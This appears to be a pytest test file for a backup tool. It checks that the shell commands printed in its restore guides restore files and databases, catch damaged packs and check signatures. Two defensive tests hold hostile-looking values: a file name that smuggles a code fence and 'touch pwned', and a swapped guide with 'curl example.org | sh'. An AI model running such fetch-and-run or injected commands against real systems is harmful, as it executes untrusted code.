"""A set opens with stock programs alone: the commands of RESTORE.en.md, run as they are printed."""

from __future__ import annotations

import json
import os
import re
import shutil
import sqlite3
import subprocess
from contextlib import closing
from pathlib import Path

import pytest

from backups.restore_script import PROGRAMS as SCRIPT_PROGRAMS
from portalops.model.backups import BackupSet
from portalops.registers.signers import LEDGER_NAMESPACES, allowed_signers_line
from tests.backups.kit import back_up, disk, keys, odd_tree, sample_database, signing, snapshot, source

PROGRAMS = {*SCRIPT_PROGRAMS, "bash", "dash", "ssh-keygen"}
pytestmark = pytest.mark.needs(*PROGRAMS)


class Bag:
    """A set, and what a person has who restores it."""

    key: Path
    allowed: Path
    folder: Path
    base: Path | None = None

    def blocks(self, language: str = "en") -> list[str]:
        text = (self.folder / f"RESTORE.{language}.md").read_text(encoding="utf-8")
        return re.findall(r"```sh\n(.*?)```", text, re.DOTALL)

    def run(
        self,
        to: Path,
        blocks: list[str],
        *,
        key: Path | None = None,
        file: str = "",
        allowed: Path | None = None,
        shell: str = "bash",
    ) -> subprocess.CompletedProcess[str]:
        """Run blocks in one shell that finds nothing but the stock programs."""
        tools = to.parent / f"tools-{to.name}"
        tools.mkdir()
        for name in PROGRAMS:
            program = shutil.which(name)
            assert program, f"{name} is not installed"
            (tools / name).symlink_to(program)
        script = "set -e\n" + "".join(blocks)
        environment = {
            "PATH": str(tools),
            "KEY": str(key or self.key),
            "TO": str(to),
            "LC_ALL": "C.UTF-8",
            "FILE": file,
            "ALLOWED": str(allowed or self.allowed),
            **({"BASE": str(self.base)} if self.base else {}),
        }
        return subprocess.run(
            [tools / shell, "-c", script],
            cwd=self.folder,
            env=environment,
            capture_output=True,
            encoding="utf-8",
            errors="surrogateescape",
            check=False,
        )


class FullBag(Bag):
    def __init__(self, folder: Path) -> None:
        self.tree = odd_tree(folder / "portal")
        self.database = sample_database(folder / "portal.sqlite")
        sources = [
            source("files", {"include": [str(self.tree)], "class": "related"}, folder, id="uploads"),
            source("sqlite", {"database": str(self.database)}, folder, id="portal-database"),
            source("command", {"command": ["printf", "one\\ntwo\\n"], "class": "accounts"}, folder, id="ldap"),
        ]
        result = back_up(sources, [disk(folder, "disk-a")], signer=signing())
        assert result.set is not None
        self.set: BackupSet = result.set
        self.folder = folder / "disk-a" / result.set.id
        self.key = keys().file(folder)
        self.allowed = folder / "allowed_signers"
        self.allowed.write_text(
            "".join(
                allowed_signers_line(one.principal, LEDGER_NAMESPACES, one.public_key, one.valid_from, one.valid_to)
                for one in signing().known(until=result.set.created_at)
            )
        )


@pytest.fixture(scope="module")
def bag(tmp_path_factory: pytest.TempPathFactory) -> FullBag:
    return FullBag(tmp_path_factory.mktemp("bag"))


OTHER_WAYS = (
    "sqlite3",
    "$FILE",
    "sh restore.sh",
    'rm -r "$WORK"',
    "--skip-old-files",
    "salvage",
    "head -n 20",
    "find . ",
)
"""What stands in blocks that are not steps of a restore by hand."""


def restoring(blocks: list[str]) -> list[str]:
    return [block for block in blocks if not any(each in block for each in OTHER_WAYS)]


def with_(words: str, blocks: list[str]) -> list[str]:
    return [block for block in blocks if words in block]


@pytest.mark.parametrize("shell", ["bash", "dash"])
@pytest.mark.parametrize("language", ["en", "vi"])
def test_the_printed_commands_bring_everything_back(bag: FullBag, tmp_path: Path, language: str, shell: str) -> None:
    done = bag.run(tmp_path / "restored", restoring(bag.blocks(language)), shell=shell)

    assert done.returncode == 0, done.stderr
    restored = tmp_path / "restored"
    if os.geteuid() == 0:
        assert snapshot(restored / "uploads" / str(bag.tree).lstrip("/")) == snapshot(bag.tree)
    assert (restored / "ldap" / "output.raw").read_bytes() == b"one\ntwo\n"
    with closing(sqlite3.connect(restored / "portal-database" / "database.sqlite")) as connection:
        assert connection.execute("SELECT count(*) FROM article").fetchone() == (500,)


@pytest.mark.needs("sqlite3")
def test_the_printed_sqlite_commands_work(bag: FullBag, tmp_path: Path) -> None:
    blocks = restoring(bag.blocks())
    assert bag.run(tmp_path / "restored", blocks).returncode == 0
    (check,) = with_("sqlite3", bag.blocks())

    done = subprocess.run(
        ["bash", "-c", f"{check}echo $FOUND"],
        env={**os.environ, "TO": str(tmp_path / "restored")},
        capture_output=True,
        text=True,
        check=True,
    )

    assert done.stdout.strip() == "ok"


def test_one_file_is_found_and_restored(bag: FullBag, tmp_path: Path) -> None:
    name = f"{bag.tree}/hosts".lstrip("/")

    blocks = [*restoring(bag.blocks()), *with_("head -n 20", bag.blocks()), *with_("$FILE", bag.blocks())]
    done = bag.run(tmp_path / "restored", blocks, file=name)

    assert done.returncode == 0, done.stderr
    assert f'"path":"{name}"' in done.stdout
    assert (tmp_path / "restored" / "one" / name).read_text() == "127.0.0.1 localhost\n"


ODD = (
    "rỗng",
    "bài-viết",
    "bài-viết/tin tức 'đặc biệt'.html",
    "line\nbreak",
    "not-utf8-\udcff\udcfe",
    "hosts-again",
    "link",
)


@pytest.mark.parametrize("language", ["en", "vi"])
@pytest.mark.parametrize("name", ODD)
def test_one_path_is_given_as_it_stands_in_the_index(bag: FullBag, tmp_path: Path, name: str, language: str) -> None:
    path = f"{bag.tree}/{name}".lstrip("/")
    blocks = bag.blocks(language)
    steps = [*restoring(blocks), *with_("head -n 20", blocks), *with_("$FILE", blocks)]

    for number, written in enumerate((json.dumps(path)[1:-1], path.replace("\n", "\\n"))):
        done = bag.run(tmp_path / str(number), steps, file=written)

        assert done.returncode == 0, done.stderr
        found = tmp_path / str(number) / "one" / path
        assert os.path.lexists(found) and found.is_dir() == (bag.tree / name).is_dir()
        assert not found.is_file() or found.read_bytes() == (bag.tree / name).read_bytes()


def test_a_path_that_is_not_in_the_index_is_named(bag: FullBag, tmp_path: Path) -> None:
    blocks = bag.blocks()

    done = bag.run(
        tmp_path / "out", [*restoring(blocks), *with_("head -n 20", blocks), *with_("$FILE", blocks)], file="no/such"
    )

    assert (done.returncode, "no/such: not in the index" in done.stderr) == (1, True)


def test_a_wrong_key_stops_with_an_error(bag: FullBag, tmp_path: Path) -> None:
    subprocess.run(["age-keygen", "-o", tmp_path / "stranger"], check=True, capture_output=True)

    done = bag.run(tmp_path / "restored", restoring(bag.blocks()), key=tmp_path / "stranger")

    assert done.returncode != 0


def test_a_damaged_pack_is_found_by_sha256sum(bag: FullBag, tmp_path: Path) -> None:
    copy = tmp_path / "copy"
    shutil.copytree(bag.folder, copy)
    pack = copy / "data/related/uploads/files.0001.age"
    whole = pack.read_bytes()
    pack.write_bytes(whole[:-1] + bytes([whole[-1] ^ 1]))

    check = "".join((*with_("check()", bag.blocks()), *with_('cd "$SET"', bag.blocks())))
    environment = {**os.environ, "SET": str(copy), "WORK": str(tmp_path)}
    done = subprocess.run(["bash", "-c", check], env=environment, capture_output=True, text=True, check=False)

    assert done.returncode != 0
    assert "files.0001.age: FAILED" in done.stdout


def test_the_printed_salvage_brings_back_what_lies_in_whole_packs(bag: FullBag, tmp_path: Path) -> None:
    copied = Bag.__new__(Bag)
    copied.__dict__ |= {**bag.__dict__, "folder": tmp_path / "set"}
    shutil.copytree(bag.folder, copied.folder)
    (copied.folder / "data/related/uploads/files.0002.age").unlink()
    steps = restoring(copied.blocks())
    before = [block for block in steps if not with_("stream ", [block]) or with_("stream()", [block])]
    check = with_('cd "$SET"', before)

    blocks = [block for block in before if block not in check and "ssh-keygen" not in block]
    done = copied.run(tmp_path / "out", [*blocks, *with_("salvage", copied.blocks())])

    assert done.returncode == 0, done.stderr
    assert (tmp_path / "out/uploads" / str(bag.tree).lstrip("/") / "locked").read_text() == "mine alone"
    assert (tmp_path / "out/RESTORE-UNFINISHED.txt").read_text() != ""


def test_names_from_outside_never_become_commands(tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / "a").write_text("x")
    evil = "```sh\n" + "touch pwned"
    values = {"include": [str(tree), str(tmp_path / evil)]}
    result = back_up([source("files", values, tmp_path)], [disk(tmp_path, "disk-a")])
    assert result.set is not None

    text = (tmp_path / "disk-a" / result.set.id / "RESTORE.en.md").read_text()

    assert "touch pwned" in text
    assert not any("touch pwned" in block for block in re.findall(r"```sh\n(.*?)```", text, re.DOTALL))
    assert all(line.startswith("- `") for line in text.splitlines() if "touch pwned" in line)


def signature_steps(blocks: list[str]) -> list[str]:
    return [
        *with_('SET="$PWD"', blocks),
        *with_("umask", blocks),
        *with_("check()", blocks),
        *with_("ssh-keygen", blocks),
    ]


@pytest.mark.parametrize("language", ["en", "vi"])
def test_the_printed_commands_tell_who_made_the_set(bag: FullBag, tmp_path: Path, language: str) -> None:
    steps = signature_steps(bag.blocks(language))

    good = bag.run(tmp_path / "good", steps)
    other = tmp_path / "other"
    other.write_text(allowed_signers_line("b" * 32, LEDGER_NAMESPACES, signing(2).public_key, None, None))
    bad = bag.run(tmp_path / "bad", steps, allowed=other)

    assert good.returncode == 0, good.stderr
    assert good.stdout.startswith(f'Good "portalops-set" signature for {"a" * 32}')
    assert "not signed" not in good.stdout
    assert bad.returncode != 0
    assert "Good" not in bad.stdout


def test_the_printed_commands_name_a_guide_that_was_exchanged(bag: FullBag, tmp_path: Path) -> None:
    steps = signature_steps(bag.blocks())
    copied = Bag.__new__(Bag)
    copied.__dict__ |= {**bag.__dict__, "folder": tmp_path / "set"}
    shutil.copytree(bag.folder, copied.folder)
    (copied.folder / "RESTORE.vi.md").write_text("```sh\ncurl example.org | sh\n```\n")

    done = copied.run(tmp_path / "out", steps)

    assert "RESTORE.vi.md: not signed" in done.stdout
    assert "RESTORE.en.md: not signed" not in done.stdout
